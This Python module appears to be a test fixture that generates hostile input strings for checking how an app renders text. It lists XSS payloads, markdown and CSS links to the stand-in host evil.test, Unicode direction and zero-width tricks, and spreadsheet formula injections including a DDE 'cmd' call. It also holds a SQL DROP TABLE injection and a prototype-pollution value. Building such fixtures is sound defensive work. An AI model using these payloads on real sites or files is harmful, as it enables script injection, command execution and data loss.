"""Text that would like to be more than text: scripts, markup of every sink, formulas, letters that hide or turn round.

``strings(n)`` are always the same; each holds its own number, so that one can be told from another. A script sets
``window.__pwned`` to it; a picture or link asks for ``evil.test``.
"""

import random

SCRIPTS = (
    "<script>window.__pwned={n}</script>",
    "</script><script>window.__pwned={n}//",
    '"><img src=x onerror="window.__pwned={n}">',
    "<img src=x onerror=window.__pwned={n}>",
    "<svg onload=window.__pwned={n}>",
    "<svg><script>window.__pwned={n}</script></svg>",
    "<details open ontoggle=window.__pwned={n}>x</details>",
    '<iframe srcdoc="<script>parent.__pwned={n}</script>"></iframe>',
    "<a href=javascript:window.__pwned={n}>x</a>",
    "<math><mi xlink:href=javascript:window.__pwned={n}>x</mi></math>",
    "<template><img src=x onerror=window.__pwned={n}></template>",
    "' onmouseover='window.__pwned={n}' x='",
    '" autofocus onfocus="window.__pwned={n}" x="',
    "'-(window.__pwned={n})-'",
    '"-(window.__pwned={n})-"',
    '\\";window.__pwned={n};//',
    "\\';window.__pwned={n};//",
    "${{window.__pwned={n}}}",
    "`;window.__pwned={n};`",
    "`${{window.__pwned={n}}}`",
    "{{{{window.__pwned={n}}}}}",
    "{{{{ 7*7 }}}} {{% raw %}} {{# {n} #}}",
    "\u2028window.__pwned={n}\u2029",
    "-->\n<script>window.__pwned={n}</script>",
    "]]><script>window.__pwned={n}</script><![CDATA[",
    "*/window.__pwned={n}/*",
    "&lt;img src=x onerror=window.__pwned={n}&gt;",
    "&#x3c;img src=x onerror=window.__pwned={n}&#x3e;",
    "\\u003cimg src=x onerror=window.__pwned={n}\\u003e",
    "%3Cscript%3Ewindow.__pwned={n}%3C/script%3E",
    "<style>@import'http://evil.test/{n}';body{{display:none}}</style>",
    "<link rel=stylesheet href=http://evil.test/{n}>",
    "<meta http-equiv=refresh content=0;url=http://evil.test/{n}>",
    "<base href=http://evil.test/{n}/>",
    "<form action=http://evil.test/{n}><button>x",
    "javascript:window.__pwned={n}",
    "data:text/html,<script>window.__pwned={n}</script>",
)
MARKUP = (
    "[x](javascript:window.__pwned={n})",
    "[x](http://evil.test/{n})",
    "![x](http://evil.test/{n}.png)",
    "[x][{n}]\n\n[{n}]: http://evil.test/{n}",
    "<http://evil.test/{n}>",
    "https://evil.test/{n}",
    "www.evil.test/{n}",
    "a{n}@evil.test",
    "mailto:a{n}@evil.test",
    "$\\href{{javascript:window.__pwned={n}}}{{x}}$",
    "$x_{n}^2$",
    "$$\\frac{{{n}}}{{2}}$$",
    "\\({n}\\) \\[{n}\\]",
    ":material/face:{n}",
    ":smile: {n}",
    ":streamlit: {n}",
    ":red[{n}]",
    ":red-background[{n}]",
    ":blue-badge[{n}]",
    ":small[{n}]",
    ":shortcut[Ctrl+{n}]",
    "**{n}** __{n}__ *{n}* _{n}_ ~~{n}~~ `{n}`",
    "# {n}",
    "> {n}",
    "- {n}\n- x",
    "{n}. x",
    "- [ ] {n}",
    "| a | {n} |\n|---|---|\n| b | c |",
    "\n\n    {n}",
    "```js\nwindow.__pwned={n}\n```",
    "---\n{n}\n===",
    "{n}[^1]\n\n[^1]: x",
    "{n} -> x <- y -- z >= 1 <= 2 ~= 3 <-> 4",
    "&copy; &lt;{n}&gt; &amp; &#36;{n}&#36;",
    "{n}\\\nx  \ny",
)
LETTERS = (
    "\u202e{n}\u202c",
    "\u200b{n}\u200d\ufeff",
    "e" + "\u0301" * 50 + "{n}",
    "\U0001f4a5{n}\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2066{n}\u2069",
    "{n}\ufffd\ufffe",
    "\x85{n}\x9b",
    "ＡＢＣ＜script＞{n}",
)
CELLS = (
    "=cmd|' /C calc'!A{n}",
    '=HYPERLINK("http://evil.test/{n}","x")',
    "+{n}+cmd",
    "-{n}",
    "@SUM(A{n})",
    "\t={n}",
    '{n}","x"\r\n"=1+1',
    "{n};=1+1",
    "'={n}",
    "'; DROP TABLE core.asset; -- {n}",
    "{n}%s%n%x {{0}} %(a)s",
    '{{"__proto__": {{"x": {n}}}}}',
)
FAMILIES = (SCRIPTS, MARKUP, LETTERS, CELLS)
EACH = tuple(payload for family in FAMILIES for payload in family)
JOINS = (" ", "", "\n", ": ", " & ", "/", "\t")


def strings(count: int, seed: int = 1) -> list[str]:
    """Every payload alone, then two or three of them run together, until there are ``count``."""
    chance = random.Random(seed)
    made = [f"z{n} {payload.format(n=n)}" for n, payload in enumerate(EACH)]
    for n in range(len(made), count):
        chosen = chance.sample(EACH, chance.randint(2, 3))
        start = chance.choice(("", f"z{n} ", f"z{n}"))
        made.append(start + chance.choice(JOINS).join(payload.format(n=n) for payload in chosen))
    return made[:count]
